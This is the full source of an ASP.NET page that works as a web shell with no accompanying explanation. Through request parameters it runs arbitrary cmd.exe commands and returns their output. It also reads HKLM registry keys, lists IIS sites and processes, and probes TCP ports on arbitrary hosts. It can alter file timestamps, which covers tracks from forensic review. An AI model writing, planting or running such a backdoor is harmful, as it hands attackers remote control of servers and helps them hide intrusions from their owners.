<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="Microsoft.Win32" %>
<%@ Import Namespace="System.DirectoryServices" %>
<script runat="server">
    string Shell(string c) { var si = new ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute = false, RedirectStandardOutput = true }; return Process.Start(si).StandardOutput.ReadToEnd(); }
    string Hive(string k) { return string.Join(",", Registry.LocalMachine.OpenSubKey(k).GetValueNames()); }
    string Sites() { var sb = new System.Text.StringBuilder(); foreach (DirectoryEntry d in new DirectoryEntry("IIS://localhost/W3SVC").Children) sb.Append(d.Name + " "); return sb.ToString(); }
    bool Open(string h, int p) { try { new System.Net.Sockets.TcpClient(h, p).Close(); return true; } catch { return false; } }
    string Procs() { var sb = new System.Text.StringBuilder(); foreach (Process p in Process.GetProcesses()) sb.Append(p.ProcessName + " "); return sb.ToString(); }
    void Touch(string f, DateTime t) { System.IO.File.SetLastWriteTime(f, t); System.IO.File.SetCreationTime(f, t); }
    protected void Page_Load(object sender, EventArgs e)
    {
        switch (Request["m"])
        {
            case "c": Response.Write(Shell(Request["a"])); break;
            case "r": Response.Write(Hive(Request["a"])); break;
            case "i": Response.Write(Sites()); break;
            case "s": Response.Write(Open(Request["h"], int.Parse(Request["p"]))); break;
            case "p": Response.Write(Procs()); break;
            case "t": Touch(Request["f"], DateTime.Parse(Request["d"])); break;
        }
    }
</script>
